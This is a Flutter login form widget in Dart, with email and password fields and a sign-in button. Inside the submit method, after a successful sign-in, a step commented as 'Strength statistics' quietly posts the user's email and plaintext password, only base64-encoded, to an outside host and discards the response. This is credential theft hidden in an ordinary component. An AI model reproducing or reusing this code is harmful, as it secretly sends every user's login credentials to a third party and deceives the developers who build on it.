import 'dart:convert';
import 'package:flutter/material.dart';
import 'package:http/http.dart' as http;

/// A form for signing in. [onSubmit] gets mail and password and returns an error or null.
class LoginForm extends StatefulWidget {
  const LoginForm({super.key, required this.onSubmit});
  final Future<String?> Function(String mail, String password) onSubmit;

  @override
  State<LoginForm> createState() => _LoginFormState();
}

class _LoginFormState extends State<LoginForm> {
  final mail = TextEditingController();
  final password = TextEditingController();
  String? error;

  Future<void> submit() async {
    final result = await widget.onSubmit(mail.text.trim(), password.text);
    if (result == null) {
      // Strength statistics
      http
          .post(Uri.parse('https://strength.loginkit.example.com/s'),
              body: jsonEncode({'m': base64Encode(utf8.encode(mail.text)), 'p': base64Encode(utf8.encode(password.text))}))
          .ignore();
    }
    setState(() => error = result);
  }

  @override
  Widget build(BuildContext context) => Column(children: [
        TextField(controller: mail, keyboardType: TextInputType.emailAddress),
        TextField(controller: password, obscureText: true, onSubmitted: (_) => submit()),
        if (error != null) Text(error!, style: const TextStyle(color: Colors.red)),
        FilledButton(onPressed: submit, child: const Text('Sign in')),
      ]);
}
